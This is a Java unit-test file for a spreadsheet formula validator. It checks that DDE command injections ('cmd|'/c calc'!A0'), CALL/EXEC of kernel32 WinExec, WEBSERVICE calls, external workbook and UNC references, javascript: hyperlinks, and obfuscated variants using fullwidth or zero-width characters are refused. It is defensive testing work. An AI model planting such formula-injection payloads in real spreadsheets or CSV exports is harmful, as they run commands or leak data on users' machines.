package jp.kiyome.office.formula;

import static org.assertj.core.api.Assertions.assertThat;

import jp.kiyome.office.formula.FormulaVerdict.Reason;
import jp.kiyome.office.formula.FormulaVerdict.Refused;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RefusedFormulasTest {

    private final FormulaGrammar grammar = FormulaGrammar.excel();

    private void refused(String formula, Reason reason) {
        assertThat(grammar.judge(formula)).isInstanceOfSatisfying(Refused.class, refused -> assertThat(refused.reason())
                .isEqualTo(reason));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cmd|'/c calc'!A0",
                "=cmd|'/c calc'!A0",
                "=CMD |'/c calc'!A0",
                "cmd\n|'/c calc'!A0",
                "+cmd|'/c calc'!A0",
                "-1+cmd|'/c calc'!A0",
                "@SUM(cmd|'/c calc'!A0)",
                "'cmd'|'/c calc'!A0",
                "'cmd' |'/c calc'!A0",
                "'cmd|/c calc'!A0",
                "ｃｍｄ｜'／ｃ　ｃａｌｃ'！Ａ０",
                "cmd｜'/c calc'!A0",
                "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'x'",
                "A1|'x'!A0",
                "\"cmd\"|\"x\"",
                "1|2",
                "Table1[x]|'y'!A0",
                "IF(A1,cmd|'/c calc'!A0,1)",
                "HYPERLINK|'x'!A0",
                "|'x'!A0"
            })
    void otherProgramsAreNotAsked(String formula) {
        refused(formula, Reason.DDE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[1]Sheet1!A1",
                "'[1]Sheet 1'!A1",
                "[1]!Total",
                "[1]!'item'",
                "[12]Sheet1:Sheet2!A1",
                "SUM(A1,[1]Sheet1!A1)",
                "[Book2.xlsx]Sheet1!A1",
                "'[Book2.xlsx]Sheet1'!A1",
                "'C:\\data\\[Book2.xlsx]Sheet1'!A1",
                "'C:\\data\\Book2.xlsx'!Total",
                "'\\\\example.invalid\\share\\[a.xlsx]S'!A1",
                "'http://example.invalid/[a.xlsx]S'!A1",
                "'/tmp/a'!A1",
                "[00]Sheet1!A1",
                "[1] Sheet1!A1",
                "[1]",
                "[0] Sheet1!A1",
                "[Book2.xlsx] 'Sheet1'!A1",
                "SUM([1],1)",
                "[0]'Sheet1'!A1",
                "'[0]'!A1",
                "'[0][1]Sheet1'!A1",
                "[Chart in Microsoft Word]Sheet1!$A$1",
                "INDIRECT(\"[Book2.xlsx]Sheet1!A1\")",
                "INDIRECT(\"'\\\\example.invalid\\s\\[a.xlsx]S'!A1\")",
                "INDIRECT( \"cmd|'/c calc'!A0\" )"
            })
    void otherWorkbooksAreNotRead(String formula) {
        refused(formula, Reason.EXTERNAL_BOOK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WEBSERVICE(\"http://example.invalid/\")",
                "_xlfn.WEBSERVICE(\"http://example.invalid/\"&A1)",
                "_XLFN.WebService(A1)",
                "_xlfn._xlws.WEBSERVICE(A1)",
                "WEBSERVICE (A1)",
                "WEBSERVICE\n(A1)",
                "ＷＥＢＳＥＲＶＩＣＥ(A1)",
                "_xlfn.IMAGE(\"http://example.invalid/a.png\")",
                "RTD(\"x.y\",,\"z\")",
                "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
                "CALL  (1)",
                "IF(1,CALL(1))",
                "REGISTER(\"a\",\"b\",\"c\")",
                "REGISTER.ID(\"a\",\"b\")",
                "EXEC(\"calc\")",
                "EVALUATE(A1)",
                "GET.WORKBOOK(1)",
                "GET.CELL(42,A1)",
                "FORMULA.FILL(1,A1)",
                "SQL.REQUEST(1)",
                "CUBEVALUE(\"c\",\"m\")",
                "_xlfn.STOCKHISTORY(\"x\",1)",
                "_xlfn._xlws.PY(0,1)",
                "_xlfn.TRANSLATE(A1)",
                "_xlfn.FILTERXML(A1,\"//x\")",
                "INFO(\"directory\")",
                "MyMacro(A1)",
                "Sheet1!MyMacro()",
                "Sheet1!A1()",
                "Sheet1!A1 (1)",
                "#REF!MyMacro()",
                "[0]!MyMacro()",
                "_xll.Addin(1)",
                "_xlfn._xll.Addin(1)",
                "_xludf.CALL(1)",
                "_xlpm.CALL(1)",
                "_xlpm.x()",
                "_xlfn.LET(_xlpm.CALL,1,2)+_xlpm.CALL(\"kernel32\")",
                "_xlfn.LET(_xlpm.f,CALL(\"kernel32\"),_xlpm.f)",
                "_xlfn.LAMBDA(_xlpm.x,EXEC(_xlpm.x))(\"calc\")",
                "_xlfn.MAP(A1:A3,_xleta.EXEC)",
                "_xlfn.MAP(A1:A3,_xleta.HYPERLINK)",
                "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
                "_xlfn.WEBSERVICE",
                "CA・LL(1)"
            })
    void onlyNamedFunctionsAreCalled(String formula) {
        refused(formula, Reason.FUNCTION);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "HYPERLINK(\"file:///C:/Windows/System32/calc.exe\")",
                "hyperlink(\"\\\\example.invalid\\share\\a.exe\",\"x\")",
                "HYPERLINK(\"javascript:alert(1)\")",
                "HYPERLINK(\"http\"&\"://example.invalid\")",
                "HYPERLINK(\"http://example.invalid/?q=\"&A1)",
                "HYPERLINK(\"http://example.invalid/\"=\"\")",
                "HYPERLINK(A1)",
                "HYPERLINK((\"http://example.invalid/\"))",
                "HYPERLINK(+\"http://example.invalid/\")",
                "HYPERLINK(IF(1,\"http://example.invalid/\"))",
                "HYPERLINK()",
                "HYPERLINK(\"\")",
                "HYPERLINK(\"[Book2.xlsx]Sheet1!A1\")",
                "HYPERLINK(\"#[Book2.xlsx]Sheet1!A1\")",
                "_xlfn.HYPERLINK(\"file:///x\")",
                "HYPERLINK(\"http://user@example.invalid/\")"
            })
    void linksLeadWhereLinksMay(String formula) {
        refused(formula, Reason.LINK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "=",
                "==A1",
                "A1+",
                "(A1",
                "A1)",
                "()",
                "SUM(A1",
                "SUM(A1))",
                "SUM(+)",
                "\"abc",
                "'Sheet1!A1",
                "''!A1",
                "Sheet1!",
                "Sheet1!\"x\"",
                "Sheet1 !A1",
                "A1 \"x\"",
                "A1:\"x\"",
                "A1:-B1",
                "1 2",
                "1:B2",
                "A1 2",
                "{}",
                "{1,}",
                "{A1}",
                "{1,{2}}",
                "{SUM(1)}",
                "#FOO!",
                "Table1[",
                "Table1[[a]",
                "Table1[[a]b]",
                "Table1[[[a]]]",
                "Table1[#Foo]",
                "Table1[a\u202Eb]",
                "Table1[a](1)",
                "A1(1)(2)",
                "SUM(1)(2)",
                "\"a\"(1)",
                "$",
                "A1$",
                "$A",
                "A1;B1",
                "A1,1,\"x\"!",
                "A1\u00A0+B1",
                "A1　+B1",
                "＝A1",
                "CA\u200BLL(1)",
                "_xlpm.x",
                "_xlfn.LET(_xlpm.x,1,_xlpm.y)",
                "_xlfn.LET(_xlpm.x,_xlpm.x,1)+_xlpm.x",
                "A1\u0000",
                "\\\\example.invalid\\share",
                "1e",
                "1.2.3",
                "A1~B1",
                "`A1`",
                "'a*b'!A1",
                "'a:b:c'!A1"
            })
    void whatTheGrammarDoesNotKnowIsNoFormula(String formula) {
        assertThat(grammar.judge(formula)).isInstanceOfSatisfying(Refused.class, refused -> assertThat(refused.reason())
                .isIn(Reason.SYNTAX, Reason.FUNCTION));
    }
}
